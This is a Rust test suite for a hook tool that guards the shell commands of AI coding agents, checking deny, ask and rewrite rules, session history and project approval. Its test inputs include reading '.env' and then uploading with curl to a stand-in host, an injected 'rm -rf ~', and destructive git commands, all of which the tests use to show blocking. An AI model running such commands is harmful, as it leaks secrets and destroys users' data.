//! Rules through the program: the same rule under several agents, unknown facts, broken rules, history, packs and approval.
#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::panic, reason = "a failed test reports its cause by panicking")]

mod common;

use common::{Place, Ran};
use serde_json::{Value, json};

const USER: &str = "home/.config/checkrein/hooks.yaml";

const NO_PUSH: &str = r#"hooks:
  - id: no-push-to-protected
    params: { protected: [main, master, "release/*"] }
    vars:
      push: commands.filter(c, c.program == "git" && c.subcommand == "push")
    when: vars.push.exists(c, c.git.targets.exists(b, b.globs(params.protected)))
    deny: push to ${vars.push[0].git.targets[0]} goes through a pull request
    tests:
      - { command: "git push origin HEAD:main", want: deny }
      - { command: "git push origin fix", want: none }
"#;

fn user(hooks: &str) -> Place {
    Place::untrusted(&[(USER, hooks)])
}

fn claude(command: &str) -> Value {
    json!({ "hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Bash", "tool_input": { "command": command } })
}

fn sent(place: &Place, agent: &str, payload: &Value) -> Ran {
    place.run_with(&["hook", agent], &payload.to_string())
}

/// Decision of an answer to Claude Code. Empty without an opinion.
fn decision(ran: &Ran) -> String {
    let answer: Value = serde_json::from_str(&ran.stdout).unwrap_or_default();
    answer["hookSpecificOutput"]["permissionDecision"].as_str().unwrap_or_default().to_owned()
}

fn decide(place: &Place, command: &str) -> String {
    decision(&sent(place, "claude", &claude(command)))
}

#[test]
fn one_rule_guards_all_agents() {
    let place = user(NO_PUSH);
    let reason = "push to main goes through a pull request";
    for (agent, event, tool) in [
        ("claude", "PreToolUse", "Bash"),
        ("codex", "PreToolUse", "Bash"),
        ("gemini", "BeforeTool", "run_shell_command"),
    ] {
        let payload = |command: &str| json!({ "hook_event_name": event, "session_id": "s", "tool_name": tool, "tool_input": { "command": command } });
        for line in ["git push origin HEAD:main", "sudo sh -c \"cd x && git -C y push origin +main\""] {
            let ran = sent(&place, agent, &payload(line));
            assert!(ran.stdout.contains("deny") && ran.stdout.contains(reason), "{agent}: {line}: {ran:?}");
        }
        for line in ["git push origin fix", "git commit -m 'git push origin main'", "echo $HOME", "ls"] {
            let ran = sent(&place, agent, &payload(line));
            assert!(!ran.stdout.contains("deny") && !ran.stdout.contains("ask"), "{agent}: {line}: {ran:?}");
        }
    }
}

#[test]
fn unknown_condition_has_the_effect_of_its_policy() {
    for (policy, wanted) in [("ask", "ask"), ("closed", "deny"), ("open", "")] {
        let place = user(&format!("{NO_PUSH}    unknown: {policy}\n"));
        let ran = sent(&place, "claude", &claude("git push origin $BRANCH"));
        assert_eq!(decision(&ran), wanted, "{policy}: {ran:?}");
        assert_eq!(ran.stdout.contains("$BRANCH"), !wanted.is_empty(), "{policy}: {ran:?}");
        // A known part decides.
        assert_eq!(decide(&place, "git push origin \"HEAD:fix/$X\""), "", "{policy}");
        assert_eq!(decide(&place, "echo $X"), "", "{policy}");
        assert_eq!(decide(&place, "git push origin main $X"), "deny", "{policy}");
    }
}

#[test]
fn broken_rule_closes_its_gate_with_its_place() {
    let place = user("hooks:\n  - id: x\n    when: commands.exists(c, c.progam == \"git\")\n    deny: no\n");
    let ran = sent(&place, "claude", &claude("ls"));
    assert_eq!(decision(&ran), "deny", "{ran:?}");
    assert!(ran.stdout.contains("hooks.yaml:2") && ran.stdout.contains("did you mean `program`?"), "{ran:?}");
    // Other events are not affected.
    let stop = json!({ "hook_event_name": "Stop", "session_id": "s", "stop_hook_active": false });
    assert!(!sent(&place, "claude", &stop).stdout.contains("block"));
}

#[test]
fn failing_rule_follows_on_failure() {
    for (policy, wanted) in [("", "deny"), ("on_failure: ask,", "ask"), ("on_failure: open,", "")] {
        let place = user(&format!("hooks: [{{ id: x, {policy} when: 'commands[5].program == \"git\"', deny: no }}]"));
        let ran = sent(&place, "claude", &claude("ls"));
        assert_eq!(decision(&ran), wanted, "{policy}: {ran:?}");
    }
}

#[test]
fn rewrite_changes_only_its_fields() {
    let place = user(
        "hooks: [{ id: x, when: 'commands.exists(c, c.program == \"npm\")', rewrite: { timeout: 5000, description: 'runs ${commands[0].program}' } }]",
    );
    let mut payload = claude("npm test");
    payload["tool_input"]["timeout"] = json!(1);
    payload["tool_input"]["run_id"] = json!(9_007_199_254_740_993_u64);
    let ran = sent(&place, "claude", &payload);
    let answer: Value = serde_json::from_str(&ran.stdout).unwrap();
    let input = &answer["hookSpecificOutput"]["updatedInput"];
    let wanted = json!({ "command": "npm test", "timeout": 5000, "description": "runs npm", "run_id": 9_007_199_254_740_993_u64 });
    assert_eq!(input, &wanted, "{ran:?}");
    assert_eq!(sent(&place, "claude", &claude("ls")).stdout, "");
}

/// Each call is a process of its own. A call that arrives twice counts once.
#[test]
fn labels_and_counts_are_kept_for_a_session() {
    let place = user(
        r#"hooks:
  - { id: reads, when: 'paths.exists(p, p.secret && p.access == "read")', label: secret }
  - { id: no-upload, when: 'history.seen("secret") && net.exists(n, n.upload)', deny: a secret was read }
  - { id: budget, when: 'history.count("Bash") >= 3', ask: "${history.count(\"Bash\")} commands so far" }
"#,
    );
    let call = |session: &str, id: &str, command: &str| {
        let mut payload = claude(command);
        payload["session_id"] = json!(session);
        payload["tool_use_id"] = json!(id);
        decision(&sent(&place, "claude", &payload))
    };
    let upload = "curl -d @x https://x.test";
    assert_eq!(call("a", "1", upload), "");
    assert_eq!(call("a", "2", "cat .env"), "");
    // The same call again.
    assert_eq!(call("a", "2", "cat .env"), "");
    assert_eq!(call("a", "2", "cat .env"), "");
    assert_eq!(call("a", "3", upload), "deny");
    assert_eq!(call("a", "4", "ls"), "ask");
    // Another session has its own history.
    assert_eq!(call("b", "5", upload), "");
}

#[test]
fn once_applies_to_the_first_call_for_which_the_rule_holds() {
    let place = user("hooks: [{ id: x, once: true, when: 'commands.exists(c, c.program == \"rm\")', deny: no }]");
    let decisions = ["ls", "rm a", "rm a", "ls"].map(|line| decide(&place, line));
    assert_eq!(decisions, ["", "deny", "", ""]);
}

#[test]
fn label_of_a_denied_call_is_not_set() {
    let read = "when: 'paths.exists(p, p.name == \".env\")'";
    let later = "  - { id: later, when: 'history.seen(\"secret\")', ask: a secret was read }\n";
    for (rules, wanted) in [
        (format!("  - {{ id: reads, {read}, label: secret }}\n"), "ask"),
        (format!("  - {{ id: reads, {read}, label: secret, deny: no }}\n"), ""),
        (format!("  - {{ id: reads, {read}, label: secret }}\n  - {{ id: denies, {read}, deny: no }}\n"), ""),
    ] {
        let place = user(&format!("hooks:\n{rules}{later}"));
        decide(&place, "cat .env");
        assert_eq!(decide(&place, "ls"), wanted, "{rules}");
        let ran = place.run(&["try", "cat .env", "--as", "claude"]);
        assert_eq!(ran.stdout.contains("label `secret`"), wanted == "ask", "{rules}: {ran:?}");
    }
}

#[test]
fn quoted_words_of_a_rewrite_stay_words() {
    let place = user(
        "hooks: [{ id: x, when: 'commands.exists(c, c.program == \"rw\")', rewrite: { command: 'safe ${commands[0].args[0].quote()}' } }]",
    );
    let input = |command: &str| {
        let answer: Value = serde_json::from_str(&sent(&place, "claude", &claude(command)).stdout).unwrap();
        answer["hookSpecificOutput"].clone()
    };
    assert_eq!(input("rw 'a; rm -rf ~'")["updatedInput"]["command"], "safe 'a; rm -rf ~'");
    assert_eq!(input("rw \"it's\"")["updatedInput"]["command"], r"safe 'it'\''s'");
    assert_eq!(input("rw plain.txt")["updatedInput"]["command"], "safe plain.txt");
    // Only the shell knows the word, so it cannot be quoted.
    let answer = input("rw \"$X; rm -rf ~\"");
    assert_eq!(answer["permissionDecision"], "deny", "{answer}");
    assert!(answer["permissionDecisionReason"].as_str().unwrap().contains("is unknown"), "{answer}");
}

#[test]
fn keys_of_rules_in_other_hooks_close_the_gate() {
    let place = user("hooks: [{ id: x, event: PreToolUse, command: 'true', when: 'tool.name == \"Bash\"', deny: no }]");
    let ran = place.run(&["check"]);
    assert!(ran.code == 1 && ran.stdout.contains("error[rule-key]"), "{ran:?}");
    assert_eq!(decide(&place, "ls"), "deny");
}

#[test]
fn only_the_broken_half_of_an_entry_is_reported() {
    let place =
        user("hooks:\n  - { id: x, events: [PreToolUse, UserPromptSubmit], when: prompt == \"x\", deny: no }\n");
    let ran = place.run(&["list"]);
    assert!(ran.stdout.contains("blocks PreToolUse\n"), "{ran:?}");
    let ran = place.run(&["check"]);
    assert!(ran.stdout.contains("hooks.yaml:2:60: error[bad-expression]"), "{ran:?}");
}

#[test]
fn rules_of_a_project_need_approval() {
    let place = Place::untrusted(&[(".checkrein/hooks.yaml", NO_PUSH)]);
    let ran = sent(&place, "claude", &claude("git push origin main"));
    assert_eq!(decision(&ran), "");
    assert!(ran.stdout.contains("you have not approved it"), "{ran:?}");
    assert_eq!(place.run(&["trust", "approve", "--all", "--yes"]).code, 0);
    assert_eq!(decide(&place, "git push origin main"), "deny");
    // A changed rule needs a new approval; a changed test does not.
    place.write(".checkrein/hooks.yaml", &NO_PUSH.replace("git push origin fix", "git push origin other"));
    assert_eq!(decide(&place, "git push origin main"), "deny");
    place.write(".checkrein/hooks.yaml", &NO_PUSH.replace("[main, master, \"release/*\"]", "[nothing]"));
    let ran = sent(&place, "claude", &claude("git push origin main"));
    assert_eq!(decision(&ran), "deny", "a changed guard stays closed: {ran:?}");
}

#[test]
fn project_cannot_soften_a_pack_of_the_user() {
    for project in [
        "packs: [{ pack: git, except: [git.force-push] }]",
        "packs: [{ pack: git, set: { protected: [nothing] } }]",
        "packs: [{ pack: git, dry_run: true }]",
        "disable: [git.force-push]\n",
        "override: { git.force-push: { dry_run: true } }",
        "hooks: [{ id: git.force-push, when: 'false', deny: no }]",
        "hooks: [{ id: allow-all, when: 'true', allow: yes }]",
    ] {
        let place = Place::with(&[(USER, "packs: [git]"), (".checkrein/hooks.yaml", project)]);
        assert_eq!(decide(&place, "git push --force origin main"), "deny", "{project}");
    }
}

#[test]
fn user_adjusts_the_rules_of_a_pack() {
    for (file, clean, reset) in [
        ("packs: [git]", "ask", "ask"),
        ("packs: [{ pack: git, except: [git.clean] }]", "", "ask"),
        ("packs: [{ pack: git, deny: [git.clean] }]", "deny", "ask"),
        ("packs: [{ pack: git, dry_run: true }]", "", ""),
        ("packs: [git]\ndisable: [git.clean]", "", "ask"),
        ("packs: [git]\noverride: { git.clean: { dry_run: true } }", "", "ask"),
    ] {
        let place = user(file);
        assert_eq!(
            (decide(&place, "git clean -fdx"), decide(&place, "git reset --hard")),
            (clean.into(), reset.into()),
            "{file}"
        );
    }
    let place = user("packs: [{ pack: git, ask: [git.push-any], set: { protected: [stable] } }]");
    let decisions = ["git push origin fix", "git push -f origin stable", "git push -f origin main"]
        .map(|line| decide(&place, line));
    assert_eq!(decisions, ["ask", "deny", "ask"]);
}

#[test]
fn check_reports_bad_rules_with_their_places() {
    let rule = |when: &str| format!("hooks:\n  - id: x\n    when: {when}\n    deny: no\n");
    let words: Vec<_> = (0..6000).map(|number| format!("\"w{number}\"")).collect();
    for (file, place, text) in [
        (rule("commands.exists(c, c.program ==)"), "3:42", "expected a value"),
        (rule("commands.exists(c, c.program == 1)"), "3:30", "always false"),
        (rule("commands.size()"), "3:11", "bool"),
        (rule("commands.exists(c, c.progam == \"git\")"), "3:32", "did you mean `program`?"),
        (rule("comands.size() > 0"), "3:11", "did you mean `commands`?"),
        (rule(&format!("cwd in [{}]", words.join(", "))), "3:", "bytes"),
        (rule("cwd.matches(\"(a{1000}){1000}\")"), "3:23", "invalid pattern"),
        (rule("cwd.matches(\"(a\")"), "3:23", "unclosed group"),
        (rule("cwd.matches(project)"), "3:23", "in quotes"),
        (rule("prompt == \"x\""), "3:11", "not available"),
        (rule("env(\"AWS_SECRET_ACCESS_KEY\") == \"\""), "3:", "AWS_SECRET_ACCESS_KEY"),
        (rule("vars.a").replace("when", "vars: { a: vars.b, b: vars.a }\n    when"), "3:16", "depends on itself"),
        (rule("'true'").replace("deny: no", "deny: no ${cwd.nothing}"), "4:", "nothing"),
        (rule("'true'").replace("deny: no", "deny: no\n    ask: why"), "5:10", "one decision"),
        (rule("'true'").replace("    deny: no\n", ""), "2:5", "no effect"),
        (
            rule("'true'").replace("deny: no", "rewrite: { command: \"${comands[0].text}\" }"),
            "4:",
            "did you mean `commands`?",
        ),
        (rule("'true'").replace("    when: 'true'\n", ""), "2:5", "this rule has no `when`"),
        (rule("'true'").replace("    when: 'true'\n", "    event: PreToolUse\n"), "2:5", "this rule has no `when`"),
        ("packs: [filesytem]".to_owned(), "1:9", "unknown pack `filesytem`"),
        ("packs: [{ pack: git, except: [git.celan] }]".to_owned(), "1:31", "git.celan"),
        ("packs: [{ pack: git, set: { protectd: [a] } }]".to_owned(), "1:29", "protectd"),
        ("packs: [{ pack: git, set: { protected: main } }]".to_owned(), "1:40", "protected"),
        ("packs: [{ pack: git, set: { protected: [main, 1] } }]".to_owned(), "1:47", "protected"),
        ("packs: [{ pack: loops, set: { repeats: -5 } }]".to_owned(), "1:40", "whole number"),
        ("packs: [{ pack: loops, set: { repeats: 1.5 } }]".to_owned(), "1:40", "whole number"),
        ("packs:\n  - { pack: git, except: [git.clean], deny: [git.clean] }".to_owned(), "2:45", "two adjustments"),
        ("packs:\n  - git\n  - git".to_owned(), "3:5", "listed twice"),
    ] {
        let shown: String = file.chars().take(200).collect();
        let user = user(&file);
        let ran = user.run(&["check"]);
        assert_eq!(ran.code, 1, "{shown}: {ran:?}");
        let is_found =
            |line: &str| line.contains(&format!("hooks.yaml:{place}")) && line.contains("error") && line.contains(text);
        assert!(ran.stdout.lines().any(is_found), "{shown}\n{}", ran.stdout);
        // Nothing is silently dropped: the gate is closed.
        assert_eq!(decide(&user, "ls"), "deny", "{shown}");
    }
}

#[test]
fn check_reports_tests_that_cannot_run_and_effects_that_no_event_has() {
    let place = user(
        "hooks:\n  - id: x\n    when: git.branch == 'x'\n    deny: no\n    tests:\n      - { command: ls, want: dney }\n      \
         - { comand: ls, want: none }\n      - { command: ls, branch: x, want: deny }\n      - { command: ls, want: none }\n",
    );
    let ran = place.run(&["check"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    for wanted in [
        "hooks.yaml:6:7: error[bad-test]",
        "`want: dney` is unknown",
        "hooks.yaml:7:7: error[bad-test]",
        "did you mean `command`?",
    ] {
        assert!(ran.stdout.contains(wanted), "{wanted}: {ran:?}");
    }
    assert_eq!(ran.stdout.matches("[bad-test]").count(), 2, "{ran:?}");
    let effects = |event: &str, effect: &str| {
        let place = user(&format!("hooks: [{{ id: x, event: {event}, when: 'true', {effect} }}]"));
        place.run(&["check"]).stdout.matches("[unused-effect]").count()
    };
    for (event, effect, count) in [
        ("SessionEnd", "deny: no", 1),
        ("Stop", "rewrite: { command: ls }", 1),
        ("[SessionEnd, PreToolUse]", "deny: no", 0),
        ("PreToolUse", "rewrite: { command: ls }", 0),
        ("Stop", "deny: no", 0),
        ("SessionEnd", "message: bye", 0),
        ("PostToolUse", "allow: yes", 1),
        ("[PostToolUse, PreToolUse]", "allow: yes", 0),
    ] {
        assert_eq!(effects(event, effect), count, "{event} {effect}");
    }
}

#[test]
fn tests_of_rules_run_and_mutants_are_reported() {
    let place = user(NO_PUSH);
    let ran = place.run(&["test"]);
    assert!(ran.code == 0 && ran.stdout.contains("2 passed"), "{ran:?}");
    let place = user(&NO_PUSH.replace("want: none", "want: ask"));
    let ran = place.run(&["test"]);
    assert!(ran.code == 1 && ran.stdout.contains("git push origin fix"), "{ran:?}");
    // No test notices that the check of the program is dropped.
    let place = user(NO_PUSH);
    let ran = place.run(&["test", "--mutate"]);
    assert!(ran.code == 1 && ran.stdout.contains("no test notices that"), "{ran:?}");
    let complete = r#"hooks:
  - id: x
    when: commands.exists(c, c.program == "git" && c.subcommand == "push")
    deny: no
    tests:
      - { command: git push, want: deny }
      - { command: git status, want: none }
      - { command: docker push x, want: none }
"#;
    let ran = user(complete).run(&["test", "--mutate"]);
    assert_eq!(ran.code, 0, "{ran:?}");
}
